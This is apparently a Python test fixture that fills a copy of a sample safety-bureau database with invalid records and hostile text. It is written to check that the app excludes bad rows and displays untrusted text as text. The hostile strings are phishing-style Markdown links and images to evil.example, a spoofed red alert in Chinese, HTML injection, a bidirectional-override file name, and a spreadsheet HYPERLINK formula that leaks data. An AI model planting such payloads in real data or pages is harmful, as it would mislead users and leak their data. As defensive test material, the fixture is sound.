"""A dirty, hostile copy of the sample: what a real bureau database, a careless operator or an
attacker may hold. Made with plain SQL on a copy without constraints (the loader is not
involved), on SQLite, PostgreSQL and MariaDB alike.

Two kinds of trouble are planted:
- values that must be set aside (the figures leave the row out and the page says so): an
  unknown grade, negative deaths, a date in 2030 or 9999, a NULL deadline, an accident in a
  unit that does not exist, the same accident twice (same id and number);
- untrusted text that must show as text: Markdown links and images, Streamlit colour
  directives, HTML, a bidirectional override, a spreadsheet formula, a 20,000-character name,
  a unit without a name.
"""

from __future__ import annotations

import datetime as dt

import sqlalchemy as sa

from tests.scratch_db import copy_sample, relaxed_metadata

AS_OF = dt.date(2022, 11, 25)
LINK = "[点此重新登录](http://evil.example/login)"
IMAGE = "![x](http://evil.example/pixel.png)"
RED = ":red[**数据已被篡改,请立即拨打12345**]"
HTML = "<a href='http://evil.example/a'>点我</a><b>粗体</b><img src='http://evil.example/i.png'>"
BIDI = "\u202eexe.doc"
FORMULA = '=HYPERLINK("http://evil.example/?leak=1","点击查看")'
LONG = "长" * 20_000
HOSTILE = (LINK, IMAGE, RED, HTML, BIDI, FORMULA)

# Accidents of 2022 (ids 183–340 in the sample) that are broken, by what is wrong.
UNKNOWN_GRADE, NEGATIVE_DEATHS, IN_2030, NO_SUCH_UNIT, TWICE = 190, 191, 192, 193, 194
ACCIDENT_TEXTS = {200 + i: text for i, text in enumerate(HOSTILE)}
# Hidden dangers of 2022 (ids 2801–5450): one closed in 9999, one found in 2031, one with a
# code used twice; hostile descriptions and responsible persons.
CLOSED_9999, FOUND_2031, CODE_TWICE = 2801, 2802, 2803


def _text_updates(table: str, column: str, ids: dict[int, str]) -> list[tuple[str, dict]]:
    return [(f"UPDATE {table} SET {column} = :v WHERE id = :i", {"v": v, "i": i})
            for i, v in ids.items()]


STATEMENTS: tuple[tuple[str, dict], ...] = (
    # set aside
    ("UPDATE accidents SET grade = '超级' WHERE id = :i", {"i": UNKNOWN_GRADE}),
    ("UPDATE accidents SET deaths = -3 WHERE id = :i", {"i": NEGATIVE_DEATHS}),
    ("UPDATE accidents SET occurred_at = '2030-01-01 08:00:00' WHERE id = :i", {"i": IN_2030}),
    ("UPDATE accidents SET unit_code = '140499' WHERE id = :i", {"i": NO_SUCH_UNIT}),
    ("INSERT INTO accidents SELECT * FROM accidents WHERE id = :i", {"i": TWICE}),
    ("UPDATE hidden_dangers SET closed_on = '9999-12-31' WHERE id = :i", {"i": CLOSED_9999}),
    ("UPDATE hidden_dangers SET found_on = '2031-01-01' WHERE id = :i", {"i": FOUND_2031}),
    ("INSERT INTO hidden_dangers SELECT * FROM hidden_dangers WHERE id = :i", {"i": CODE_TWICE}),
    ("UPDATE key_tasks SET deadline = NULL WHERE id = 1", {}),
    ("UPDATE working_faces SET planned_on = NULL WHERE id = 31", {}),
    ("UPDATE resource_sites SET kind = 'bunker' WHERE id = 7", {}),
    # untrusted text, shown as text (rows still count)
    ("UPDATE units SET name = :v WHERE code = '140423'", {"v": LINK}),
    ("UPDATE units SET name = NULL WHERE code = '140431'", {}),
    ("UPDATE units SET name = :v WHERE code = '140425'", {"v": LONG}),
    ("UPDATE sectors SET name = :v WHERE code = 'coal'", {"v": RED}),
    ("UPDATE enterprises SET name = :v WHERE id = 1", {"v": FORMULA}),
    ("UPDATE enterprises SET name = :v WHERE id = 2", {"v": HTML}),
    *_text_updates("accidents", "summary", ACCIDENT_TEXTS),
    *_text_updates("hidden_dangers", "description", {2810 + i: t for i, t in enumerate(HOSTILE)}),
    *_text_updates("hidden_dangers", "responsible_person", {2820: FORMULA, 2821: BIDI}),
    *_text_updates("key_tasks", "title", {2: LINK, 3: IMAGE, 4: RED, 5: HTML}),
    *_text_updates("task_progress_reports", "note", {1: FORMULA, 2: LINK}),
    *_text_updates("resource_sites", "name", {1: LINK, 2: HTML, 3: BIDI}),
    *_text_updates("resource_sites", "contact_role", {1: RED, 2: FORMULA}),
    *_text_updates("working_faces", "name", {32: LINK, 33: HTML}),
    *_text_updates("coal_mines", "name", {1: IMAGE}),
    *_text_updates("drills", "title", {1: LINK}),
    *_text_updates("resource_items", "item", {1: HTML, 2: FORMULA}),
)


def build_dirty(sample_url: str, url: str) -> None:
    """The dirty copy of the sample at `url` (an empty database)."""
    copy_sample(sample_url, url, relaxed_metadata())
    engine = sa.create_engine(url)
    try:
        with engine.begin() as conn:
            for sql, params in STATEMENTS:
                conn.execute(sa.text(sql), params)
    finally:
        engine.dispose()
